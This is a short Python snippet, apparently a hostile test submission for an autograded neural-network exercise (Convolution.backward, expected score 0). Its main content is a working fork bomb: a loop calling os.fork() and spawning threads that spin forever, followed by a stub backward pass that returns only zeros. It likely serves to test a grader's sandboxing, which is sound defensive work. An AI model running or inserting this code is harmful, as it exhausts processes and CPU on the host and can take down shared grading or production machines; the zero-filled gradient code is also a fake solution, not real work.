"""Forks and starts threads as fast as it can.

method: Convolution.backward
where: answer
score: 0..0
"""
import os
import threading
for _ in range(1000):
    try:
        os.fork()
    except OSError:
        pass
    try:
        threading.Thread(target=lambda: [0 for _ in iter(int, 1)]).start()
    except RuntimeError:
        pass
self.dW = np.zeros(self.W.shape)
self.db = np.zeros(self.b.shape)
return np.zeros(self.x.shape)
